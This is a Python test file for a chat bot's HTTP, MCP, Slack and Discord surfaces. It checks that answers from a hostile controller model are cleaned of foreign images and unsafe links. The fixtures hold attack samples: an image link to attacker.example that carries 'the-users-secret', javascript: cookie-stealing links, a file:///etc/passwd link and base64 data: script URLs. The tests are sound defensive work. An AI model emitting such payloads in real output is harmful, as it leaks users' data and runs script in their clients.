"""A hostile controller writes answers that would make the user's client load attacker URLs; each
surface shows the user no such image (the HTTP API) or no preview of such a link (Discord, Slack)."""

from __future__ import annotations

from html.parser import HTMLParser

import aiohttp
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sandbox import Sandbox
from bot.service import Service
from bot.settings import load_settings
from benchmarks.harness.http_server import KEY, Served

LEAK = "https://attacker.example/exfil?d=the-users-secret"


def hostile(own: str) -> str:
    return (f"Done! Here is your picture ![cat]({own}/v1/files/file-1-image-1) and "
            f"![pixel]({LEAK}) plus <img src=\"https://attacker.example/i.png\">.\n\n"
            f"See [the source]({LEAK}).\n\n![ref][r]\n\n[r]: https://attacker.example/ref.png\n\n"
            "`![kept](https://attacker.example/in-code)`")


def hostile_links() -> str:
    """An answer whose links run code, read local files or carry data when clicked."""
    return ("Here you go: [click me](javascript:alert(document.cookie)) or <vbscript:msgbox(1)>, "
            "[the file](file:///etc/passwd), [x](&#106;avascript:alert(1)), ![d](data:image/svg+xml;base64,PHN2Zz4=) "
            "and [ref][r]. The [real page](https://example.org/fine) stays.\n\n"
            "[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")


class AllLinks(HTMLParser):
    """Every link and image address of an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [v or "" for k, v in attrs if (tag, k) in (("a", "href"), ("img", "src"))]


def rendered_links(markdown: str) -> list[str]:
    """The addresses of every link and image a renderer that trusts every scheme would make of
    ``markdown`` (CommonMark; markdown-it's own scheme check turned off)."""
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True
    parser = AllLinks()
    parser.feed(md.render(markdown))
    return parser.found


def assert_only_web_links(content: str) -> None:
    assert rendered_links(content) == ["https://example.org/fine"]
    assert "click me (a javascript: link, removed)" in content and "(a vbscript: link, removed)" in content
    assert "the file (a file: link, removed)" in content and "ref (a data: link, removed)" in content


class HTMLImages(HTMLParser):
    """The ``<img>`` tags of an HTML page, as a browser's parser finds them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.found.append(dict(attrs))

    @classmethod
    def of(cls, html: str) -> list[dict[str, str | None]]:
        parser = cls()
        parser.feed(html)
        return parser.found


def script_for(sandbox, answer: str) -> None:
    sandbox.controller.script[:] = [{"content": "[]"}, {"content": answer}]  # no tasks, then the answer


@pytest.fixture
async def served(sandbox, tmp_path):
    s = await Served(sandbox, tmp_path / "data", {"api_keys": [KEY]}).start()
    yield s
    await s.close()


def shown_images(markdown: str) -> list[str]:
    """The image URLs a chat UI rendering ``markdown`` (CommonMark with raw HTML) would load."""
    html = MarkdownIt("commonmark").render(markdown)
    return [img["src"] for img in HTMLImages.of(html)]


def assert_no_foreign_image(content: str, own: str) -> None:
    assert shown_images(content) == [f"{own}/v1/files/file-1-image-1"]  # only our own file renders
    assert f"[image: pixel (attacker.example)](<{LEAK}>)" in content  # a plain link naming the host
    assert "`![kept](https://attacker.example/in-code)`" in content  # code is left as written


@pytest.mark.parametrize("stream", [False, True])
async def test_http_answer_keeps_only_our_own_images(served, sandbox, stream):
    script_for(sandbox, hostile(served.url))
    client = served.client()
    if stream:
        chunks = [c async for c in await client.chat.completions.create(
            model="hugginggpt", stream=True, messages=[{"role": "user", "content": "Say hello"}])]
        content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        reply = await client.chat.completions.create(model="hugginggpt", messages=[{"role": "user", "content": "Say hello"}])
        content = reply.choices[0].message.content
    assert len(sandbox.controller.requests) == 2
    assert_no_foreign_image(content, served.url)


async def test_http_external_images_drop(sandbox, tmp_path):
    s = await Served(sandbox, tmp_path / "data", {"api_keys": [KEY], "external_images": "drop"}).start()
    try:
        script_for(sandbox, hostile(s.url))
        async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {KEY}"}) as http:
            async with http.post(s.url + "/hugginggpt", json={"messages": [{"role": "user", "content": "Say hello"}]}) as r:
                message = (await r.json())["message"]
        assert "exfil" not in message.split("See [the source]")[0]  # the image's URL is gone, not linked
        assert "*(pixel: an image from attacker.example, not shown)*" in message
    finally:
        await s.close()


@pytest.mark.parametrize("mode", ["link", "drop"])
async def test_mcp_answer_shows_no_image_from_elsewhere(sandbox, tmp_path, mode):
    from mcp import Client

    from adapters.mcp import build_server

    settings = load_settings(env={}, overrides={**sandbox.overrides(tmp_path / "data"),
                                                "server": {"external_images": mode}})
    service = await Service.create(settings)
    try:
        script_for(sandbox, hostile("http://127.0.0.1:8000"))
        async with Client(build_server(service)) as client:  # the real client, in process
            result = await client.call_tool("hugginggpt", {"request": "Say hello"})
    finally:
        await service.close()
    text = result.content[0].text
    assert not result.is_error and text.startswith("Done! Here is your picture")
    assert shown_images(text) == []  # files come as content blocks: no image link is rendered, ours included
    if mode == "link":
        assert f"[image: pixel (attacker.example)](<{LEAK}>)" in text
    else:
        assert "*(pixel: an image from attacker.example, not shown)*" in text
        assert "exfil" not in text.split("See [the source]")[0]


@pytest.mark.parametrize("stream", [False, True])
async def test_http_answer_keeps_only_web_links(served, sandbox, stream):
    script_for(sandbox, hostile_links())
    client = served.client()
    if stream:
        chunks = [c async for c in await client.chat.completions.create(
            model="hugginggpt", stream=True, messages=[{"role": "user", "content": "Say hello"}])]
        content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        reply = await client.chat.completions.create(model="hugginggpt", messages=[{"role": "user", "content": "Say hello"}])
        content = reply.choices[0].message.content
    assert rendered_links(hostile_links()) != ["https://example.org/fine"]  # the attack, unsanitised
    if stream:  # the definition came after the link went out: it is text, so the link never forms
        assert rendered_links(content) == ["https://example.org/fine"] and "\\[r]: data:" in content
    else:
        assert_only_web_links(content)


async def test_mcp_answer_keeps_only_web_links(sandbox, tmp_path):
    from mcp import Client

    from adapters.mcp import build_server

    service = await Service.create(load_settings(env={}, overrides=sandbox.overrides(tmp_path / "data")))
    try:
        script_for(sandbox, hostile_links())
        async with Client(build_server(service)) as client:  # the real client, in process
            result = await client.call_tool("hugginggpt", {"request": "Say hello"})
    finally:
        await service.close()
    assert not result.is_error
    assert_only_web_links(result.content[0].text)


async def test_slack_thread_shows_no_preview_of_the_controllers_links(slack, tmp_path):
    from benchmarks.harness.slack import start_harness

    async with Sandbox() as sb:
        service = await Service.create(load_settings(env={}, overrides=sb.overrides(tmp_path / "data")))
        try:
            for streaming in (True, False):  # a chat stream, and a status message edited with chat.update
                h = await start_harness(slack, service, tmp_path, streaming=streaming)
                try:
                    script_for(sb, hostile("https://files.example"))
                    app_mention, _, ts = h.mention("say hello")
                    assert (await h.deliver(app_mention))[0] == 200
                    await h.settle()
                    replies = h.replies(ts)
                    assert any("attacker.example" in m.text for m in replies), streaming  # there to click
                    assert [m.previews for m in replies] == [[] for _ in replies]  # but Slack fetches none
                finally:
                    await h.close()
        finally:
            await service.close()


async def test_discord_answer_shows_no_preview_of_the_controllers_links(tmp_path):
    from tests.test_discord_bot import running_bot

    async with running_bot(tmp_path) as env:
        script_for(env.sandbox, hostile("https://files.example"))
        iid = await env.ask("say hello")
        thread_id = await env.thread_of(iid)
        msgs = await env.finished(thread_id)
        answer = msgs[-1]
        assert "attacker.example" in answer.content
        assert all(m.previews == [] for m in msgs)


@settings(max_examples=60, deadline=None)
@given(cuts=st.lists(st.integers(min_value=1, max_value=400), max_size=40))
def test_streamed_pieces_never_show_a_foreign_image_however_cut(cuts):
    """However the controller's deltas cut the answer, what the client assembles shows only our
    own images (the stream guard holds back paragraphs with ``!`` or ``<``)."""
    from adapters.http.safe_markdown import StreamGuard

    own = "http://127.0.0.1:8000"
    text = hostile(own) + "\n\nMore ![late][r2] <img\nsrc=https://attacker.example/split.png>\n\n[r2]: https://attacker.example/2"
    points = sorted({c % len(text) for c in cuts} | {0, len(text)})
    guard = StreamGuard(own + "/v1/files/")
    out = "".join(guard.feed(text[a:b]) for a, b in zip(points, points[1:])) + guard.end()
    assert shown_images(out) == [f"{own}/v1/files/file-1-image-1"]
    assert "attacker.example" in out  # links stay readable and clickable


@settings(max_examples=60, deadline=None)
@given(cuts=st.lists(st.integers(min_value=1, max_value=400), max_size=40))
def test_streamed_pieces_never_form_a_link_that_is_not_a_web_address_however_cut(cuts):
    from adapters.http.safe_markdown import StreamGuard

    text = hostile_links() + "\n\nLater [again][s] and <javascript:void(0)>\n\n[s]: vbscript:msgbox(2)"
    points = sorted({c % len(text) for c in cuts} | {0, len(text)})
    guard = StreamGuard("http://127.0.0.1:8000/v1/files/")
    out = "".join(guard.feed(text[a:b]) for a, b in zip(points, points[1:])) + guard.end()
    assert rendered_links(out) == ["https://example.org/fine"]


def test_a_run_that_storage_ended_is_503_without_paths(tmp_path):
    from adapters.http.openai_api import run_error
    from bot.errors import StorageError
    from pipeline.types import RunRecord

    failure = StorageError(f"The conversation database {tmp_path}/x.sqlite3 is corrupt or not a SQLite database.")
    err = run_error(RunRecord(request="hi", status="error", error=failure.user_message, failure=failure))
    assert err.status == 503 and err.code == "storage_unavailable" and str(tmp_path) not in err.message
